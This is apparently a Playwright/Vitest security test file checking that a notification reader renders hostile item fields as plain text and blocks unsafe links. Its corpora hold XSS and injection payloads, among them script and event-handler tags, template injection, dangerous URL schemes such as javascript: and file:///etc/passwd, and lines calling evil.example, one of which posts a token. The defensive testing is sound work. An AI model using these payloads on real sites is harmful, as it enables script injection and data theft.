import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import type { TestHub } from "../hub.ts";
import { Reader, startChromium, startHub } from "./reader.ts";

/** Text that does something wherever it is taken for anything but text. */
const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "\"><script src=https://evil.example/x.js></script>",
  "'-alert(1)-'",
  "</title><script>alert(1)</script>",
  "</li></ol><form action=https://evil.example><input name=token>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<object data=https://evil.example/x.swf>",
  "<details open ontoggle=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "url(https://evil.example/x); background: red",
  "--hue: url(https://evil.example/x)",
  "\u202Eevil\u202C <!-- --!> <![CDATA[",
];

const LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\nscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
  "//evil.example/",
  "/\\evil.example/",
  "/\t/evil.example/",
  "\\\\evil.example",
  "https://user:pw@evil.example/",
  "https:evil.example",
];

let browser: Browser;
let hub: TestHub;
let reader: Reader;

beforeAll(async () => {
  browser = await startChromium();
});

afterAll(async () => {
  await browser.close();
});

beforeEach(async () => {
  hub = await startHub();
  reader = await Reader.open(browser, hub);
});

afterEach(async () => {
  await reader.close();
});

test("text stays text: no dialog, no foreign request, no element", async () => {
  const hostile = (text: string, i: number) => ({
    id: `hostile-${i}-${text}`,
    title: text,
    body: text,
    source: text,
    type: text,
    level: text,
    time: text,
    link: text,
    icon: text,
    topics: [text],
    data: { group: text },
  });
  CORPUS.forEach((text, i) => hub.publish(hostile(text, i)));
  await reader.visit();
  await reader.page.evaluate("scrollTo(0, document.body.scrollHeight)");
  CORPUS.forEach((text, i) => hub.publish(hostile(text, 100 + i)));
  await expect.poll(() => reader.titles(), { timeout: 10_000 }).toHaveLength(CORPUS.length * 2);
  expect(await reader.titles()).toEqual([...CORPUS, ...CORPUS].reverse());
  const tags = await reader.page
    .locator("#list *")
    .evaluateAll((elements) => [...new Set(elements.map((element) => element.localName))].sort());
  expect(tags).toEqual(["button", "li", "p", "span", "time"]);
  await reader.page.locator("button.body").first().click();
  expect(new URL(reader.page.url()).origin).toBe(hub.url.origin);
  expect(reader.faults).toEqual([]);
});

test("a link that leads nowhere allowed is no link", async () => {
  for (const link of LINKS) hub.publish({ title: link, link });
  await reader.visit();
  expect(await reader.titles()).toHaveLength(LINKS.length);
  expect(await reader.page.locator("#list a").count()).toBe(0);
  expect(reader.faults).toEqual([]);
});

test("a good link opens apart, and can't reach back", async () => {
  hub.publish({ title: "out", link: "https://example.org/a?b#c" });
  hub.publish({ title: "own", link: "/orders/1" });
  await reader.visit();
  const links = await reader.page.locator("#list a").evaluateAll((anchors) =>
    anchors.map((anchor) => ["href", "target", "rel"].map((name) => anchor.getAttribute(name))),
  );
  expect(links).toEqual([
    [`${hub.url.href}orders/1`, "_blank", "noopener noreferrer"],
    ["https://example.org/a?b#c", "_blank", "noopener noreferrer"],
  ]);
  const opening = reader.page.waitForEvent("popup");
  await reader.page.locator(".item").first().click({ position: { x: 300, y: 40 } });
  const opened = await opening;
  await opened.waitForLoadState();
  expect(opened.url()).toBe(`${hub.url.href}orders/1`);
  expect(await opened.evaluate("opener")).toBeNull();
  expect(reader.faults).toEqual([]);
});

test("a link is judged again when it is pressed", async () => {
  hub.publish({ title: "own", link: "/orders/1" });
  await reader.visit();
  const link = reader.page.locator("#list a");
  await link.evaluate((anchor) => {
    anchor.setAttribute("href", "javascript:alert(1)");
    anchor.removeAttribute("target");
  });
  const prevented = reader.page.evaluate(
    () =>
      new Promise((resolve) => {
        addEventListener("click", (event) => resolve(event.defaultPrevented), { once: true });
      }),
  );
  await link.click();
  expect(await prevented).toBe(true);
  expect(reader.faults).toEqual([]);
});
